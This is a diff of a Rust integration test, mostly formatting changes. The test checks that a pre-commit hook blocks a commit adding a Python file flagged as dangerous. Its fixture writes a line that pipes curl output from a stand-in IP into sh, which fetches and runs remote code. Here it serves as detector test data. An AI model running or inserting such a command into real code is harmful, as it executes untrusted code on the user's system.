@@ -29,7 +29,10 @@ fn git(dir: &Path, args: &[&str]) -> std::process::Output {
 }
 
 fn pre_commit_available() -> bool {
-    Command::new("python3").args(["-m", "pre_commit", "--version"]).output().is_ok_and(|o| o.status.success())
+    Command::new("python3")
+        .args(["-m", "pre_commit", "--version"])
+        .output()
+        .is_ok_and(|o| o.status.success())
 }
 
 #[test]
@@ -67,18 +70,25 @@ fn commit_with_dangerous_code_is_refused_and_clean_commit_passes() {
     std::fs::write(repo.join("notes.txt"), "os.system('x')\n").unwrap();
     git(repo, &["add", "ok.py", "notes.txt", ".pre-commit-config.yaml"]);
     let clean = git(repo, &["commit", "-q", "-m", "clean"]);
-    let clean_out = String::from_utf8_lossy(&clean.stdout).into_owned() + &String::from_utf8_lossy(&clean.stderr);
+    let clean_out = String::from_utf8_lossy(&clean.stdout).into_owned()
+        + &String::from_utf8_lossy(&clean.stderr);
     assert!(clean.status.success(), "clean commit refused: {clean_out}");
     assert!(clean_out.contains("Passed"), "the hook must have run: {clean_out}");
 
     // A commit adding a dangerous file is refused, with the diagnostic shown.
-    std::fs::write(repo.join("evil.py"), "import os\nos.system('curl http://198.18.0.1/x | sh')\n").unwrap();
+    std::fs::write(repo.join("evil.py"), "import os\nos.system('curl http://198.18.0.1/x | sh')\n")
+        .unwrap();
     git(repo, &["add", "evil.py"]);
     let refused = git(repo, &["commit", "-q", "-m", "evil"]);
-    let out = String::from_utf8_lossy(&refused.stdout).into_owned() + &String::from_utf8_lossy(&refused.stderr);
+    let out = String::from_utf8_lossy(&refused.stdout).into_owned()
+        + &String::from_utf8_lossy(&refused.stderr);
     assert!(!refused.status.success(), "dangerous commit accepted: {out}");
     assert!(out.contains("PSB201"), "{out}");
     assert!(out.contains("evil.py:2:1"), "{out}");
     let log = git(repo, &["log", "--oneline"]);
-    assert_eq!(String::from_utf8_lossy(&log.stdout).lines().count(), 1, "only the clean commit exists");
+    assert_eq!(
+        String::from_utf8_lossy(&log.stdout).lines().count(),
+        1,
+        "only the clean commit exists"
+    );
 }
